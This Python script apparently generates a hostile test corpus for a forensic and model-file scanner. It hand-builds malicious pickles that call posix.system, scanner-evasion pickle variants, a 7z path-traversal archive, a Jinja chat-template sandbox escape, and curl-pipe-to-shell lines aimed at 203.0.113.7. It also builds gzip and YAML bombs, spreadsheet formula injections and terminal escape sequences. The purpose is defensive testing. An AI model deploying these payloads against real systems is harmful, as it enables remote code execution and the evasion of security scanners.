"""Generator of the hostile corpus: one small case folder per class of issue 11 (forensic soundness) and one model
folder holding the model-scanning classes of issue 12, every byte crafted here.

Nothing is ever unpickled, evaluated or imported: pickles are assembled opcode by opcode, archives are written with
:mod:`zipfile`/:mod:`py7zr` (then patched where a class needs a malformed one), protobuf is encoded by hand, the
gzip bomb is a deflate block repeated. What each case must produce is recorded beside this script in
``corpus.yaml`` (the test reads it; :func:`generate` writes exactly the cases it lists, checked by the test).

The corpus is generated at test time, not committed: malicious pickles and bombs stay out of the repository (and
out of the reach of tools that scan it), FIFOs and names that are not valid UTF-8 cannot be stored in git, and one
script is the single source of the bytes. ``python tests/hostile/generate.py OUT_DIR`` writes it for inspection.
"""

from __future__ import annotations

import base64
import io
import json
import lzma
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

# ------------------------------------------------------------------------------------------------ pickle opcodes
PROTO = lambda n: b"\x80" + bytes([n])  # noqa: E731
STOP, TUPLE1, REDUCE, POP, MARK = b".", b"\x85", b"R", b"0", b"("
EMPTY_DICT, EMPTY_TUPLE, NEWOBJ, BUILD = b"}", b")", b"\x81", b"b"
INDICATOR = "curl -sSL http://203.0.113.7/p.sh | bash"
#: planted secrets, one of each kind the issue names (the leak smoke test greps every output for them)
SECRETS = {
    "github": "ghp_" + "Zq8" * 12,
    "slack": "xoxb-1234567890-1234567890123-" + "AbCdEfGhIjKlMnOpQrStUvWx",
    "pgpassword": "HunterSecret-42-pg",
    "aws": "AKIA" + "QWERTYUIOPASDFGH",
}
ESCAPE = "\x1b]0;pwned\x07\x1b[2J"


def uni(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def short_uni(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"\x8c" + bytes([len(raw)]) + raw


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def system_call(command: str = "echo pwned", proto: int = 2) -> bytes:
    """``posix.system(command)`` through GLOBAL + REDUCE."""
    return PROTO(proto) + glob("posix", "system") + uni(command) + TUPLE1 + REDUCE + STOP


def protocol0() -> bytes:
    """Text opcodes only (no PROTO): ``os.system`` before a malformed tail; sniffers take it for text."""
    return b"cos\nsystem\n(S'echo pwned'\ntR." + b"\nthis is not a pickle any more \xff\xfe"


def frame_overrun() -> bytes:
    """Protocol 4: a FRAME shorter than the string that starts in it; CPython's C unpickler reads on, the payload
    after the string runs (a reader that stops at the frame's end never sees it)."""
    body = short_uni("A" * 16) + POP + glob("posix", "system") + short_uni("echo pwned") + TUPLE1 + REDUCE + STOP
    return PROTO(4) + b"\x95" + struct.pack("<Q", 3) + body


def nested(encoding: str) -> bytes:
    """Inert outer data carrying a malicious pickle as bytes, base64 or hex text."""
    inner = system_call("curl http://203.0.113.7/x | sh")
    if encoding == "bytes":
        return PROTO(3) + binbytes(inner) + STOP
    text = base64.b64encode(inner).decode() if encoding == "base64" else inner.hex()
    return PROTO(2) + uni(text) + STOP


def joblib_inline_array() -> bytes:
    """joblib layout: a NumpyArrayWrapper, the array's raw bytes inline after its BUILD, then the payload."""
    wrapper = (
        PROTO(2) + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT
        + MARK + uni("shape") + b"K\x04\x85" + uni("order") + uni("C") + uni("dtype") + glob("numpy", "dtype")
        + uni("f8") + TUPLE1 + REDUCE + b"u" + BUILD
    )  # fmt: skip
    raw_array = struct.pack("<4d", 1.5, float("nan"), -2.0, 1e300)  # bytes that are not opcodes
    return wrapper + raw_array + POP + glob("posix", "system") + uni("echo pwned") + TUPLE1 + REDUCE + STOP


def dotted_name() -> bytes:
    """``pathlib.os.system`` through STACK_GLOBAL's qualified-name lookup."""
    return PROTO(4) + short_uni("pathlib") + short_uni("os.system") + b"\x93" + short_uni("id") + TUPLE1 + REDUCE + STOP


def lenient_int() -> bytes:
    """An INT written in hexadecimal (``I0x10``): the unpickler reads it (``int(text, 0)``), ``pickletools.genops``
    stops there, so a genops-based scanner never reaches the ``posix.system`` call after it."""
    return PROTO(2) + b"I0x10\n" + POP + glob("posix", "system") + uni("echo pwned") + TUPLE1 + REDUCE + STOP


def torch_zip(data_pkl: bytes, *, encrypted: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("archive/data.pkl", data_pkl)
        zf.writestr("archive/version", b"3\n")
    data = buf.getvalue()
    if encrypted:  # general-purpose flag bit 0 in the local and the central header of data.pkl
        for sig, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            pos = data.index(sig)
            flags = struct.unpack_from("<H", data, pos + flag_at)[0] | 1
            data = data[: pos + flag_at] + struct.pack("<H", flags) + data[pos + flag_at + 2 :]
    return data


def seven_zip_traversal() -> bytes | None:
    """A 7z archive whose first member is named ``../escape.txt`` and whose second is a malicious pickle."""
    try:
        import py7zr
    except ImportError:
        return None
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        archive.set_encoded_header_mode(False)  # names in clear (UTF-16LE), so that one can be patched
        archive.writestr(b"harmless", "__/escape.txt")  # py7zr refuses "../": written under a same-length name
        archive.writestr(system_call(), "data.pkl")
    data = bytearray(buf.getvalue())
    at = data.index("__/escape.txt".encode("utf-16-le"))
    data[at : at + 4] = "..".encode("utf-16-le")
    offset, size = struct.unpack_from("<QQ", data, 12)
    header = bytes(data[32 + offset : 32 + offset + size])
    struct.pack_into("<I", data, 28, zlib.crc32(header))  # NextHeaderCRC, then StartHeaderCRC over bytes 12..31
    struct.pack_into("<I", data, 8, zlib.crc32(bytes(data[12:32])))
    return bytes(data)


def safetensors(tensors: dict[str, tuple[str, list[int], bytes]], metadata: dict[str, str] | None = None) -> bytes:
    """A safetensors file: u64 header length, JSON header (ASCII: any surrogate stays a ``\\ud800`` escape), data."""
    header: dict = {"__metadata__": metadata} if metadata else {}
    offset, data = 0, b""
    for name, (dtype, shape, raw) in tensors.items():
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + len(raw)]}
        offset += len(raw)
        data += raw
    text = json.dumps(header).encode("ascii")
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def _varint(n: int) -> bytes:
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        out += bytes([byte | (0x80 if n else 0)])
        if not n:
            return out


def _field(number: int, payload: bytes) -> bytes:
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def saved_model() -> bytes:
    """``saved_model.pb``: SavedModel{meta_graphs{graph_def{node{PyFunc}, node{ReadFile}}}}, protobuf by hand."""
    nodes = b"".join(
        _field(1, _field(1, name.encode()) + _field(2, op.encode()))
        for name, op in (("exfil", "PyFunc"), ("steal", "ReadFile"), ("drop", "WriteFile"))
    )
    meta_graph = _field(2, nodes)
    return _varint(1 << 3) + _varint(1) + _field(2, meta_graph)


def keras_escaped_lambda() -> bytes:
    """A ``.keras`` zip whose config names the layer ``\\u004cambda`` (JSON escape of "Lambda")."""
    config = (
        '{"class_name": "Sequential", "config": {"layers": [{"class_name": "\\u004cambda", "config": {"name": "x", '
        '"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}}}}]}}'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("config.json", config)
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
    return buf.getvalue()


def keras_h5_lambda() -> bytes | None:
    """A Keras HDF5 file with a Lambda layer in ``model_config`` (written with h5py when it is installed)."""
    try:
        import h5py
    except ImportError:
        return None
    buf = io.BytesIO()
    config = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "x"}}]}}
    with h5py.File(buf, "w") as f:
        f.attrs["model_config"] = json.dumps(config)
        f.attrs["keras_version"] = "2.15.0"
    return buf.getvalue()


def torchscript_code() -> bytes:
    """A TorchScript zip (``code/`` source, inert ``data.pkl``) whose source calls ``os.system`` and a foreign op."""
    source = (
        "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
        '    _0 = os.system("curl http://203.0.113.7/x | sh")\n    return ops.evil.run(x)\n'
    )
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("scripted/data.pkl", PROTO(2) + b"}" + STOP)
        zf.writestr("scripted/code/__torch__.py", source)
        zf.writestr("scripted/constants.pkl", PROTO(2) + b")" + STOP)
        zf.writestr("scripted/version", b"3\n")
    return buf.getvalue()


def chat_template_config() -> bytes:
    """``tokenizer_config.json`` whose chat template shadows ``range`` and builds ``__globals__`` from pieces."""
    template = "{% set range = lipsum['__glo' ~ 'bals__'] %}{{ range['os'].popen('id').read() }}"
    return json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": template}).encode()


# ------------------------------------------------------------------------------------------------ evidence helpers
def _ts(i: int) -> str:
    return f"2026-11-03T10:{i // 60 % 60:02d}:{i % 60:02d}Z"


def predictions(labels: list[str]) -> bytes:
    """JSON-lines prediction records spread evenly over November 2026 (one label each)."""
    start = datetime(2026, 11, 1, tzinfo=UTC)
    step = 29 * 86400 / max(len(labels), 1)
    rows = []
    for i, label in enumerate(labels):
        ts = (start + timedelta(seconds=i * step)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        rows.append(json.dumps({"timestamp": ts, "label": label, "confidence": 0.9, "request_id": f"r{i}"}))
    return ("\n".join(rows) + "\n").encode()


def baseline(labels: dict[str, int]) -> bytes:
    return json.dumps(labels, indent=1).encode()


BENIGN_LINE = b"2026-11-03T10:00:00Z step 7/9: compiling the tokenizer tables, nothing to see here\n"


def gzip_bomb(decompressed: int, head: bytes, tail: bytes, chunk: int = 1 << 20, line: bytes = BENIGN_LINE) -> bytes:
    """A gzip member of ``head``, ``decompressed`` bytes of ``line`` repeated (benign by default), then ``tail``.

    One 1 MiB block of lines is deflated once with a full flush (so that the block does not refer to what came
    before) and repeated: a few KiB per decompressed MiB, written without ever holding the expanded text.
    """
    block = line * (chunk // len(line))
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)]
    repeated = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(head)
    count = decompressed // len(block)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    parts.append(repeated * count)
    parts.append(deflate.compress(tail) + deflate.flush())
    crc = zlib.crc32(tail, crc)
    size = len(head) + len(block) * count + len(tail)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + b"".join(parts) + struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)


def yaml_alias_bomb(levels: int = 9) -> bytes:
    """A billion-laughs ``case.yaml`` (each anchor aliases the previous one nine times)."""
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels + 1):
        lines.append(f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]")
    lines.append(f"title: *a{levels}")
    return ("\n".join(lines) + "\n").encode()


def log(lines: list[str]) -> bytes:
    return ("\n".join(f"{_ts(i)} {text}" for i, text in enumerate(lines)) + "\n").encode()


# ------------------------------------------------------------------------------------------------ the cases
Writer = Callable[[Path], None]


def _put(root: Path, rel: str, data: bytes | str) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode() if isinstance(data, str) else data)


def _meta(root: Path, incident: str, extra: str = "") -> None:
    _put(root, "case.yaml", f'incident_id: "{incident}"\ntitle: "hostile corpus {incident}"\n{extra}')


def root_pickle(root: Path) -> None:
    _meta(root, "HC-root-pickle")
    _put(root, "weights.pkl", system_call())


def logs_pickle(root: Path) -> None:
    _meta(root, "HC-logs-pickle")
    _put(root, "logs/pipeline.log", log(["step 1/2: checkout", "step 2/2: train"]))
    _put(root, "logs/cache.pkl", system_call())


def file_cap(root: Path) -> None:
    """41 benign files near the root and one log holding the indicator deep down (the cap is set to 41)."""
    _meta(root, "HC-file-cap")
    for i in range(40):
        _put(root, f"notes/n{i:03d}.txt", f"benign note {i}\n")
    _put(root, "deep/a/b/c/run.log", log(["step 1/1: deploy", INDICATOR]))


def long_line(root: Path) -> None:
    _meta(root, "HC-long-line")
    _put(root, "logs/build.log", log(["step 1/2: install", "x" * (70 * 1024) + " then " + INDICATOR, "done"]))


def mixed_groups(root: Path) -> None:
    _meta(root, "HC-mixed-groups")
    _put(root, "logs/github.log", log(["##[group]Run build", INDICATOR, "##[endgroup]"]))
    _put(root, "logs/plain.log", log(["plain step", INDICATOR]))


def _model_pair(root: Path, suspect_name: str, suspect_config: dict) -> None:
    w = struct.pack("<4f", 1, 2, 3, 4)
    _put(root, "models/reference/m/model.safetensors", safetensors({"w": ("F32", [4], w)}))
    _put(root, "models/reference/m/config.json", json.dumps({"model_type": "bert", "label": "ok"}))
    tensors = {suspect_name: ("F32", [4], struct.pack("<4f", 1, 2, 3, 5)), "w": ("F32", [4], w)}
    _put(root, "models/suspect/m/model.safetensors", safetensors(tensors))
    _put(root, "models/suspect/m/config.json", json.dumps(suspect_config))


def surrogates(root: Path) -> None:
    """A lone surrogate (as a JSON escape) in a prediction label, a tensor name and an alert."""
    _meta(root, "HC-surrogates", 'suspect_model: "models/suspect/m"\nreference_model: "models/reference/m"\n')
    labels = ["billing", "account", "w\ud800x"] * 40
    _put(root, "predictions/predictions.jsonl", predictions(labels))
    _put(root, "predictions/baseline_distribution.json", baseline({"billing": 50, "account": 50}))
    alert = {"timestamp": "2026-11-10T03:00:00Z", "type": "BEHAVIOR_DRIFT", "severity": "high",
             "model": "m", "message": "drift on label \ud800 (JSD 0.3)"}  # fmt: skip
    _put(root, "monitor/alerts.jsonl", json.dumps(alert) + "\n")
    _model_pair(root, "emb\ud800", {"model_type": "bert", "label": "ok"})


def huge_epoch(root: Path) -> None:
    """A case.yaml timeline entry whose time is an epoch integer of 400 digits (no float holds it)."""
    _meta(root, "HC-huge-epoch", "timeline:\n  - time: 1" + "0" * 400 + '\n    message: "long ago"\n')
    _put(root, "logs/build.log", log(["step 1/1: build"]))


def fifo_after_intake(root: Path) -> None:
    """A plain log; the test swaps it for a FIFO after custody intake, before the analyses read it."""
    _meta(root, "HC-fifo")
    _put(root, "logs/build.log", log(["step 1/1: build", INDICATOR]))
    _put(root, "logs/other.log", log(["step 1/1: lint"]))


def yaml_bomb(root: Path) -> None:
    _put(root, "case.yaml", yaml_alias_bomb())
    _put(root, "logs/build.log", log(["step 1/1: build", INDICATOR]))


def gzip_bomb_case(root: Path) -> None:
    """1.5 GiB of benign lines in a 1.5 MiB gzip: an indicator before the bomb, another after it."""
    _meta(root, "HC-gzip-bomb")
    head = log(["step 1/3: start", INDICATOR])
    tail = log(["step 3/3: exfiltrate", "wget -qO- https://get.example.com/install.sh | sudo -E sh"])
    _put(root, "logs/huge.log.gz", gzip_bomb(1536 << 20, head, tail))


def many_predictions(root: Path, rows: int = 100_000) -> None:
    """``rows`` prediction records (scaled down here; benchmarks/fuzz_parsers.py and the bounds benchmark go
    to 10 million)."""
    _meta(root, "HC-many-predictions")
    labels = ["billing", "account", "technical", "refund"]
    _put(root, "predictions/predictions.jsonl", predictions([labels[i % 4] for i in range(rows)]))
    _put(root, "predictions/baseline_distribution.json", baseline(dict.fromkeys(labels, 25)))


def secrets(root: Path) -> None:
    """One secret of each kind in each kind of evidence (a smoke test; tests/test_leaks.py is the thorough one)."""
    s = SECRETS
    _meta(root, "HC-secrets", "")
    (root / "case.yaml").write_text(
        f'incident_id: "HC-secrets"\ntitle: "token {s["github"]} leaked"\nnotes: "xPGPASSWORD={s["pgpassword"]}"\n',
        encoding="utf-8",
    )
    _put(root, "logs/deploy.log", log([f"export GITHUB_TOKEN={s['github']}", f"slack {s['slack']}",
                                       f"dbxPGPASSWORD={s['pgpassword']} psql", f"aws key {s['aws']}"]))  # fmt: skip
    _put(root, f"logs/run-{s['slack']}.log", log(["a log named after a token"]))
    _put(root, "models/suspect/m/optimizer.pkl", system_call(f"curl -H 'Authorization: token {s['github']}' x"))
    _put(root, "models/suspect/m/config.json", json.dumps({"model_type": "bert", "hub_token": s["github"],
                                                            "aws": s["aws"]}))  # fmt: skip
    alert = {"timestamp": "2026-11-10T03:00:00Z", "type": "INTEGRITY", "severity": "high", "model": "m",
             "message": f"hash mismatch; webhook token {s['slack']}"}  # fmt: skip
    _put(root, "monitor/alerts.jsonl", json.dumps(alert) + "\n")


def untouched(root: Path) -> None:
    """A few files of each kind; the test sets their access times in the past and checks them after the run."""
    _meta(root, "HC-untouched")
    _put(root, "logs/build.log", log(["step 1/1: build"]))
    _put(root, "predictions/predictions.jsonl", predictions(["a", "b"] * 30))
    _put(root, "frozen_deps.txt", "numpy==2.4.6\nrequests==2.32.3\n")
    _put(root, "models/suspect/m/model.safetensors", safetensors({"w": ("F32", [2], struct.pack("<2f", 1, 2))}))


def ledger_symlink(root: Path) -> None:
    _meta(root, "HC-ledger-symlink")
    _put(root, "logs/build.log", log(["step 1/1: build"]))


def rechained_ledger(root: Path) -> None:
    _meta(root, "HC-rechained")
    _put(root, "logs/build.log", log(["step 1/1: build", "step 2/2: ship"]))


def formula_cells(root: Path) -> None:
    """Timeline text that a spreadsheet would run: ``=``, ``+``, ``-``, ``@`` at the start of a cell."""
    formulas = [
        "=cmd|' /C calc'!A0",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C x'!A0",
    ]
    timeline = "\n".join(
        f'  - time: "2026-11-0{i + 1}T10:00:00Z"\n    message: "{text}"' for i, text in enumerate(formulas)
    )
    _meta(root, "HC-formula", f"timeline:\n{timeline}\n")
    _put(root, "logs/=HYPERLINK(1).log", log(["step 1/1: build"]))


def terminal_escapes(root: Path) -> None:
    """Terminal escape sequences (window title, clear screen) in labels, a config value and a file name."""
    _meta(root, "HC-escapes", 'suspect_model: "models/suspect/m"\nreference_model: "models/reference/m"\n')
    _put(root, "predictions/predictions.jsonl", predictions(["billing", "account", f"x{ESCAPE}"] * 40))
    _put(root, "predictions/baseline_distribution.json", baseline({"billing": 50, "account": 50}))
    _model_pair(root, "w2", {"model_type": "bert", "label": f"ok{ESCAPE}"})
    _put(root, f"logs/name{ESCAPE}.log", log(["step 1/1: build"]))


def model_scanning(root: Path) -> None:
    """Issue 12's classes, one file each, in one suspect model folder."""
    _meta(root, "HC-model-scanning")
    m = "models/suspect/m12/"
    files: dict[str, bytes | None] = {
        "proto0.pkl": protocol0(),
        "frame_overrun.pkl": frame_overrun(),
        "nested_bytes.pkl": nested("bytes"),
        "nested_base64.pkl": nested("base64"),
        "nested_hex.pkl": nested("hex"),
        "inline_array.joblib": joblib_inline_array(),
        "model.joblib.z": zlib.compress(system_call()),
        "model.joblib.lzma": lzma.compress(system_call(), format=lzma.FORMAT_ALONE),
        "traversal.7z": seven_zip_traversal(),
        "encrypted.pt": torch_zip(system_call(), encrypted=True),
        "metadata.safetensors": safetensors(
            {"w": ("F32", [1], struct.pack("<f", 1))},
            {"format": "pt", "loader": "__import__('os').system('curl http://203.0.113.7/x | sh')"},
        ),
        "saved_model.pb": saved_model(),
        "escaped.keras": keras_escaped_lambda(),
        "lambda.h5": keras_h5_lambda(),
        "dotted.pkl": dotted_name(),
        "lenient_int.pkl": lenient_int(),
        "scripted.pt": torchscript_code(),
        "tokenizer_config.json": chat_template_config(),
    }
    for name, data in files.items():
        if data is not None:  # a writer library that is not installed: the test skips that file
            _put(root, m + name, data)


CASES: dict[str, Writer] = {
    "root-pickle": root_pickle,
    "logs-pickle": logs_pickle,
    "file-cap": file_cap,
    "long-line": long_line,
    "mixed-groups": mixed_groups,
    "surrogates": surrogates,
    "huge-epoch": huge_epoch,
    "fifo-after-intake": fifo_after_intake,
    "yaml-bomb": yaml_bomb,
    "gzip-bomb": gzip_bomb_case,
    "many-predictions": many_predictions,
    "secrets": secrets,
    "untouched": untouched,
    "ledger-symlink": ledger_symlink,
    "rechained-ledger": rechained_ledger,
    "formula-cells": formula_cells,
    "terminal-escapes": terminal_escapes,
    "model-scanning": model_scanning,
}


def generate(out: Path) -> dict[str, Path]:
    """Write every case of :data:`CASES` under ``out`` (one folder each) and return ``{case: folder}``."""
    out.mkdir(parents=True, exist_ok=True)
    written = {}
    for name, writer in CASES.items():
        folder = out / name
        folder.mkdir()
        writer(folder)
        written[name] = folder
    return written


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for case, folder in generate(target).items():
        count = sum(1 for p in folder.rglob("*") if p.is_file())
        print(f"{case}: {count} files in {folder}", file=sys.stderr)
